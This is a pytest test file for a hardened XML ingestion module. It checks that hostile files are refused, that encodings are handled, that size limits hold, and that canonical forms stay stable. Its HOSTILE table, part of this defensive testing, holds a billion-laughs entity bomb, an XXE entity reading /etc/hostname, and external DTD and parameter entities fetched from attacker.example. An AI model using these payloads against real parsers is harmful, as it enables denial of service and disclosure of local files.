"""XML read safely: hostile files are refused as a whole, records come one at a time, layout changes nothing."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest.elements import Element, canonical
from ingest.incoming import Incoming
from ingest.rejects import Refused
from ingest.tables import Limits
from ingest.xml import AROUND, DEEPEST, Part, parts
from tests.ingest.loading import SAMPLES, load

TIPS = SAMPLES / "xml" / "tips_cybertip.xml"
SOME = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

GOAML = SAMPLES / "xml" / "str_goaml.xml"


def read(tmp_path: Path, data: str | bytes, *wanted: str, limits: Limits | None = None) -> list[Part]:
    path = tmp_path / "some.xml"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return list(parts(Incoming(path, limits), wanted or ("r",)))


def laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY l0 "ha">{entities}]><z><r>&l9;</r></z>'


HOSTILE: dict[str, tuple[Callable[[], str | bytes], str]] = {
    "billion laughs": (laughs, "xml_entity"),
    "external entity": (
        lambda: '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/hostname">]><z><r>&x;</r></z>', "xml_entity"
    ),
    "external subset": (lambda: '<!DOCTYPE z SYSTEM "http://attacker.example/x.dtd"><z><r/></z>', "xml_entity"),
    "parameter entity": (
        lambda: '<!DOCTYPE z [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><z/>', "xml_entity"
    ),
    "empty document type": (lambda: "<!DOCTYPE z><z><r/></z>", "xml_entity"),
    "document type cut off": (lambda: '<!DOCTYPE z [<!ENTITY a "', "xml_entity"),
    "document type in UTF-16": (lambda: "<!DOCTYPE z><z><r/></z>".encode("utf-16"), "xml_entity"),
    "undeclared entity": (lambda: "<z><r>&unknown;</r></z>", "malformed"),
    "entity declaration inside": (lambda: '<z><!ENTITY a "b"><r/></z>', "malformed"),
    "truncated": (lambda: "<z><r>1</r><r>2", "malformed"),
    "truncated after many records": (lambda: "<z>" + "<r>1</r>" * 300_000, "malformed"),
    "two roots": (lambda: "<z/><z/>", "malformed"),
    "nothing": (lambda: "", "malformed"),
    "no XML": (lambda: "ref,amount\n1,2\n", "malformed"),
    "nul byte": (lambda: b"<z><r>a\0b</r></z>", "malformed"),
    "nul as a reference": (lambda: "<z><r>&#0;</r></z>", "malformed"),
    "crossed tags": (lambda: "<z><r><a></r></a></z>", "malformed"),
    "attribute twice": (lambda: "<z><r a='1' a='2'/></z>", "malformed"),
    "bytes outside UTF-8": (lambda: b"<z><r>caf\xe9</r></z>", "encoding"),
    "UTF-16 declared, bytes of UTF-8": (
        lambda: '<?xml version="1.0" encoding="utf-16"?><z><r>ab</r></z>', "encoding"
    ),
    "UTF-8 declared, bytes of cp1256": (
        lambda: b'<?xml version="1.0" encoding="UTF-8"?><z><r>' + "سلام".encode("cp1256") + b"</r></z>", "encoding"
    ),
    "encoding nobody knows": (lambda: '<?xml version="1.0" encoding="klingon"?><z/>', "encoding"),
    "encoding that is a codec": (lambda: '<?xml version="1.0" encoding="rot13"?><z/>', "encoding"),
    "encoding that unpacks": (lambda: '<?xml version="1.0" encoding="zlib"?><z/>', "encoding"),
    "half a UTF-16 pair": (lambda: b"\xff\xfe" + "<z>\ud83d</z>".encode("utf-16-le", "surrogatepass"), "encoding"),
    "nested 100,000 deep": (lambda: "<a>" * 100_000 + "</a>" * 100_000, "oversize"),
    "nested 100,000 deep and cut off": (lambda: "<a>" * 100_000, "oversize"),
    "a comment of 8 MiB": (lambda: f"<z><!--{'x' * (8 << 20)}--><r/></z>", "oversize"),
    "an attribute of 8 MiB": (lambda: f"<z><r a='{'x' * (8 << 20)}'/></z>", "oversize"),
    "a million attributes": (lambda: "<z><r " + " ".join(f"a{n}=''" for n in range(1_000_000)) + "/></z>", "oversize"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_before_its_first_record(tmp_path: Path, name: str) -> None:
    make, code = HOSTILE[name]
    with pytest.raises(Refused) as refused:
        read(tmp_path, make())
    assert refused.value.code == code


@pytest.mark.parametrize("name", sorted(HOSTILE.keys() - {"nothing"}))  # an empty file is refused by its name
@pytest.mark.parametrize("form", ["cybertip", "camt053", "pacs008", "goaml"])
def test_every_format_turns_it_into_one_reject(tmp_path: Path, form: str, name: str) -> None:
    make, code = HOSTILE[name]
    data = make()
    path = tmp_path / "some.xml"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    result = load(path, format=form).files[0]
    assert [(p.position, p.code) for p in result.rejects] == [(0, code)]
    assert (result.counts.accepted, result.counts.rejected) == (0, 1)


def test_file_above_the_limit_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    path.touch()
    os.truncate(path, 3 << 30)
    incoming = Incoming(path)
    with pytest.raises(Refused) as refused:
        next(parts(incoming, ("r",)))
    assert refused.value.code == "oversize"
    assert "data" not in vars(incoming)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1256"])
def test_encodings_that_are_declared_or_marked(tmp_path: Path, encoding: str) -> None:
    declared = f' encoding="{encoding}"' if encoding == "cp1256" else ""
    text = f'<?xml version="1.0"{declared}?><z><r>مرحبا</r></z>'
    assert [p.element.text for p in read(tmp_path, text.encode(encoding))] == ["مرحبا"]


def test_instructions_comments_and_quoted_markup_are_only_text(tmp_path: Path) -> None:
    text = (
        '<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/x"?><!-- <!DOCTYPE z> --><z><?php x ?>'
        "<r>a<!-- b -->c<![CDATA[<!DOCTYPE z><r>no</r>]]>&lt;d&gt;</r></z>"
    )
    assert [p.element.text for p in read(tmp_path, text)] == ["ac<!DOCTYPE z><r>no</r><d>"]


def test_oversize_record_costs_only_itself_and_is_not_kept(tmp_path: Path) -> None:
    limits = Limits(text=1_000, record=5_000)
    long_text, many = f"<r><t>{'é' * 501}</t></r>", f"<r>{'<t>x</t>' * 2_000}</r>"
    found = read(tmp_path, f"<z><r>1</r>{long_text}{many}<r a='{'y' * 1_001}'/><r>2</r></z>", limits=limits)
    assert [p.problem.code if p.problem else p.element.text for p in found] == ["1", *["oversize"] * 3, "2"]
    assert len(found[2].element.children) < 2_000


def test_text_of_exactly_the_limit_is_accepted(tmp_path: Path) -> None:
    found = read(tmp_path, f"<z><r>{'é' * 500}</r></z>", limits=Limits(text=1_000))
    assert found[0].problem is None


def test_gigabyte_of_text_is_never_held(tmp_path: Path) -> None:
    """What is kept of a record exceeds its limit by a piece of the file at most, whatever its size."""
    found = read(tmp_path, b"<z><r>" + b"x" * (48 << 20) + b"</r><r>1</r></z>")
    assert [p.problem.code if p.problem else p.element.text for p in found] == ["oversize", "1"]
    assert sum(len(c) for c in found[0].element.content if isinstance(c, str)) <= Limits().record + (1 << 20)


def test_parts_leave_what_is_around_them(tmp_path: Path) -> None:
    limits = Limits(record=200)
    text = f"<z><head>h</head>{''.join(f'<r><n>{n}</n></r>' for n in range(100))}<tail/></z>"
    found = read(tmp_path, text, "z", "z/r", limits=limits)
    assert [p.element.value("n") for p in found[:-1]] == [str(n) for n in range(100)]
    assert all(p.within[0].value("head") == "h" for p in found[:-1])
    whole = found[-1]
    assert (whole.problem, [c.name for c in whole.element.children]) == (None, ["head", "tail"])


def test_parts_see_what_was_read_before_them_and_no_more(tmp_path: Path) -> None:
    found = read(tmp_path, "<z><a>1</a><r/><b>2</b><r/><c>3</c></z>", "z", "z/r")
    assert [[c.name for c in p.within[0].children] for p in found[:-1]] == [["a"], ["a", "b"]]
    crowded = read(tmp_path, f"<z>{'<x/><r/>' * 3_000}</z>", "z", "z/r")
    assert max(len(p.within[0].content) for p in crowded[:-1]) == AROUND


def test_names_are_local_and_parents_may_be_asked_for(tmp_path: Path) -> None:
    text = '<a:z xmlns:a="urn:1" xmlns="urn:2"><r b:k="1" k="2" xmlns:b="urn:3"/><other><r/></other></a:z>'
    found = read(tmp_path, text, "z/r")
    assert [p.element.attributes for p in found] == [{"k": "2", "b:k": "1"}]


def test_what_nobody_asked_for_is_told(tmp_path: Path) -> None:
    element = read(tmp_path, "<z><r k='1' l='2'><a>x</a><a>y</a><b><c>z</c></b><d>s</d></r></z>")[0].element
    assert (element.value("none", "a"), element.attribute("k"), element.first("b/c") is not None) == ("x", "1", True)
    assert element.unasked(apart=("d",)) == {"@l": "2", "a": "y", "b/c": "z"}
    assert element.told() == {"@k": "1", "@l": "2", "a": ["x", "y"], "b/c": "z", "d": "s"}
    assert element.without(("a", "c")).told() == {"@k": "1", "@l": "2", "d": "s"}
    assert element.lines() == ["x", "y", "z", "s"]


names = st.sampled_from(["a", "b", "Cc", "d-e"])
texts = st.text(alphabet="ab é&<>\"'\n", max_size=6)
trees = st.recursive(
    st.builds(lambda n, a, t: Element(n, a, [t] if t else []), names, st.dictionaries(names, texts, max_size=2), texts),
    lambda inner: st.builds(Element, names, st.just({}), st.lists(inner, max_size=4)),
    max_leaves=12,
)


def _written(element: Element, prefix: str, pad: str, *, backwards: bool) -> str:
    def quoted(text: str) -> str:
        for char, name in (("&", "amp"), ("<", "lt"), (">", "gt"), ('"', "quot"), ("\n", "#10")):
            text = text.replace(char, f"&{name};")
        return text

    pairs = sorted(element.attributes.items(), reverse=backwards)
    attributes = "".join(f' {name}="{quoted(value)}"' for name, value in pairs)
    content = "".join(
        quoted(c) if isinstance(c, str) else pad + _written(c, prefix, pad, backwards=backwards) + pad
        for c in element.content
    )
    return f"<{prefix}{element.name}{attributes}>{content}</{prefix}{element.name}>"


@SOME
@given(trees, st.sampled_from(["", " ", "\n\t"]), st.sampled_from(["utf-8", "utf-16"]))
def test_canonical_form_is_the_same_however_it_is_laid_out(
    tmp_path_factory: pytest.TempPathFactory, tree: Element, pad: str, encoding: str
) -> None:
    folder = tmp_path_factory.mktemp("xml")
    plain = f"<z><r>{_written(tree, '', '', backwards=False)}</r></z>"
    laid_out = f'<p:z xmlns:p="urn:x">{pad}<p:r>{_written(tree, "p:", pad, backwards=True)}</p:r>{pad}</p:z>'
    first, second = read(folder, plain)[0], read(folder, laid_out.encode(encoding))[0]
    assert canonical(first.element) == canonical(second.element)


@SOME
@given(trees, trees)
def test_canonical_form_tells_different_content_apart(one: Element, other: Element) -> None:
    assert (canonical(one) == canonical(other)) == (_bare(one) == _bare(other))


def _bare(element: Element) -> object:
    kept = [c.strip() if isinstance(c, str) else _bare(c) for c in element.content]
    attributes = {n: v.strip() for n, v in element.attributes.items() if v.strip()}
    return (element.name, attributes, [c for c in kept if c != ""])


SEEDS = [path.read_bytes() for path in (TIPS, GOAML)]


@SOME
@given(st.sampled_from(SEEDS), st.data())
def test_damaged_files_lose_no_record_and_raise_nothing(
    tmp_path_factory: pytest.TempPathFactory, seed: bytes, data: st.DataObject
) -> None:
    """Bytes cut, put in or changed anywhere: every record that was read is accounted for."""
    at = data.draw(st.integers(0, len(seed)))
    put = data.draw(st.sampled_from([b"", b"\0", b"\xff", b"<", b"&x;", b"</r>", b"<!DOCTYPE a>", b"<a>", b" ", b"9"]))
    drop = data.draw(st.integers(0, 40))
    path = tmp_path_factory.mktemp("xml") / "damaged.xml"
    path.write_bytes(seed[:at] + put + seed[at + drop :])
    form = "cybertip" if b"cyberTip" in seed else "goaml"
    result = load(path, format=form).files[0]
    counts = result.counts
    assert len(result.rejects) == counts.rejected
    assert result.records == counts.accepted + counts.rejected + counts.duplicates


def test_depth_limit_leaves_room_for_every_format() -> None:
    assert DEEPEST >= 100
